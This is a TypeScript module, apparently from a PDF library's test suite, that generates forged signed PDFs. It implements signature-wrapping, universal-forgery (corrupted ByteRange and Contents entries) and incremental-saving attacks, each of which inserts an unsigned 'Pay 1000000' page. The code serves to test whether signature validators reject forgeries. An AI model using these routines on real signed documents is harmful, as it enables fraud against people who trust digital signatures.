import { PdfReader } from '../pdf/structure/pdf-reader.ts';
import { accessBytes } from '../pdf/structure/random-access.ts';
import type { Attack } from './attack.ts';
import { appendByHand, joinParts, locateSignature, overwrite } from './edit-pdf.ts';

/** A page content that nobody signed. */
export const EVIL = 'BT /F1 24 Tf 72 720 Td (Pay 1000000) Tj ET';

const evilObject = (number: number) =>
  `${number} 0 obj\n<< /Length ${EVIL.length} >>\nstream\n${EVIL}\nendstream\nendobj\n`;

/** Replaces the newest signature's ByteRange token. */
const setByteRange = (text: string) => (file: Uint8Array) => {
  const { at, token } = locateSignature(file);
  return overwrite(file, at, token.length + 20, text);
};

/** Replaces the newest signature's Contents token, and the key before it where asked. */
const setContents =
  (text: string, key = '/Contents') =>
  (file: Uint8Array) => {
    const { gapStart, gapEnd } = locateSignature(file);
    const at = Buffer.from(file).lastIndexOf('/Contents', gapStart);
    return overwrite(file, at, gapEnd - at, `${key} ${text}`);
  };

/**
 * Signature wrapping: the second signed part moves to the end, the room before it holds a second ByteRange, other
 * content, and a cross-reference table where the signed `startxref` points to.
 */
async function wrap(file: Uint8Array, hasSecondRange: boolean): Promise<Uint8Array> {
  const { gapStart, gapEnd, rest, contents } = locateSignature(file);
  const { structure } = await PdfReader.open(accessBytes(file));
  const der = contents.replace(/0+>$/, '0>');
  const padded = der.length % 2 === 0 ? der : der.replace(/>$/, '0>');
  const second = file.subarray(gapEnd, gapEnd + rest);
  const tableAt = structure.startXref;
  const evilAt = gapStart + padded.length + 160;
  const offset = String(evilAt).padStart(10, '0');
  const root = structure.trailer.get('Root') as { number: number };
  const previous = structure.trailer.get('Prev') as number;
  const table = `xref\n4 1\n${offset} 00000 n\r\ntrailer\n<< /Size ${structure.nextNumber} /Root ${root.number} 0 R /Prev ${previous} >>\nstartxref\n${tableAt}\n%%EOF\n9999 0 obj\n<< /Dummy true `;
  const secondAt = tableAt + table.length;
  const range = hasSecondRange ? ` /ByteRange [0 ${gapStart} ${secondAt} ${second.length}]` : '';
  const start = `${padded}${range} >>\nendobj\n`.padEnd(evilAt - gapStart);
  const middle = `${start}${evilObject(4)}`.padEnd(tableAt - gapStart);
  return joinParts(file.subarray(0, gapStart), middle, table, second);
}

/** Appends a copy of the signature dictionary under its own number, with what a forger would change. */
const copySignature = (change: (dict: string, end: number) => string) => async (file: Uint8Array) => {
  const { text, at } = locateSignature(file);
  const start = text.lastIndexOf(' obj', at);
  const number = Number(/(\d+) \d+$/.exec(text.slice(0, start))![1]);
  const dict = text.slice(start + 5, text.indexOf('endobj', at));
  return appendByHand(file, {
    4: evilObject(4)
      .split('obj\n')[1]!
      .replace(/endobj\n?$/, '')
      .trim(),
    [number]: change(dict, file.length).trim(),
  });
};

const bareTrailer = (file: Uint8Array, startXref: number | string) =>
  joinParts(file, '\n', evilObject(4), `trailer\n<< /Size 100 /Root 1 0 R >>\nstartxref\n${startXref}\n%%EOF\n`);

async function findXref(file: Uint8Array): Promise<number> {
  return (await PdfReader.open(accessBytes(file))).structure.startXref;
}

const forgeries: [name: string, alter: Attack['alter']][] = [
  ['the ByteRange is missing', setByteRange('/ByteRangX [0 1 2 3]')],
  ['the ByteRange is null', setByteRange('/ByteRange null')],
  ['the ByteRange is empty', setByteRange('/ByteRange []')],
  ['the ByteRange is all zeros', setByteRange('/ByteRange [0 0 0 0]')],
  ['the ByteRange holds negative numbers', setByteRange('/ByteRange [0 -1 -1 -5]')],
  ['the ByteRange holds names', setByteRange('/ByteRange [/a /b /c /d]')],
  ['the ByteRange has two numbers', setByteRange('/ByteRange [0 100]')],
  ['the ByteRange has six numbers', setByteRange('/ByteRange [0 10 20 30 40 50]')],
  ['the ByteRange does not begin at 0', setByteRange('/ByteRange [9 10 20 30]')],
  ['the ByteRange is not a list', setByteRange('/ByteRange (0 1 2 3)')],
  ['the ByteRange holds fractions', setByteRange('/ByteRange [0 1.5 2.5 3]')],
  ['the ByteRange reaches past the file', setByteRange('/ByteRange [0 10 20 99999999]')],
  ['Contents is missing', setContents('<00>', '/Contentz')],
  ['Contents is null', setContents('null')],
  ['Contents is empty', setContents('<>')],
  ['Contents is a zero', setContents('<00>')],
  ['Contents is a number', setContents('0')],
  ['Contents is no message', setContents('<3003020100>')],
];

const savings: [name: string, alter: Attack['alter']][] = [
  ['a body is appended without table and trailer', (file) => joinParts(file, '\n', evilObject(4))],
  ['a body is appended with a trailer alone', (file) => bareTrailer(file, file.length)],
  ['a body is appended and the old table is named', async (file) => bareTrailer(file, await findXref(file))],
  ['a body is appended before an end mark', (file) => joinParts(file, '\n', evilObject(4), '%%EOF\n')],
  [
    'a table follows without an end',
    (file) => joinParts(file, '\n', evilObject(4), 'xref\n0 0\ntrailer\n<< /Root 1 0 R >>\n'),
  ],
  [
    'a listed revision hides an unlisted body',
    async (file) => {
      const start = file.length + 1 + evilObject(4).length;
      const tail = `xref\n0 1\n0000000000 65535 f\r\ntrailer\n<< /Size 100 /Root 1 0 R /Prev ${await findXref(file)} >>\nstartxref\n${start}\n%%EOF\n`;
      return joinParts(file, '\n', evilObject(4), tail);
    },
  ],
  ['the signature is copied into the revision', copySignature((dict) => dict)],
  [
    'the signature is copied and says that it covers all',
    copySignature((dict, end) => dict.replace(/\/ByteRange\s*\[[^\]]*\]/, `/ByteRange [0 100 200 ${end}]`)),
  ],
  [
    'the signature is copied without a ByteRange',
    copySignature((dict) => dict.replace(/\/ByteRange\s*\[[^\]]*\]/, '')),
  ],
  ['the signature is copied without Contents', copySignature((dict) => dict.replace(/\/Contents\s*<[^>]*>/, ''))],
];

/** Attacks on the bytes around the newest signature, without regard to what they show. */
export const byteLayerAttacks: Attack[] = [
  {
    name: 'the second part moves behind other content, with a second ByteRange',
    kind: 'signature-wrapping',
    alter: (file) => wrap(file, true),
  },
  {
    name: 'the second part moves behind other content',
    kind: 'signature-wrapping',
    alter: (file) => wrap(file, false),
  },
  ...forgeries.map(([name, alter]) => ({ name, kind: 'universal-forgery' as const, alter })),
  ...savings.map(([name, alter]) => ({ name, kind: 'incremental-saving' as const, alter })),
];
